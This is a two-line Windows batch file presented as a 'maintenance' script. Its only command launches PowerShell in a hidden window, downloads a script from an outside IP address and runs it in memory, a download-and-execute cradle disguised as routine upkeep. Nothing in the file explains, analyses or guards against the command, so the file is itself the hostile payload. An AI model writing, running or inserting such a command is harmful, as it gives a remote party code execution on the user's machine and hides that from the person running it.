REM maintenance 7185 v0
powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/a.ps1')"
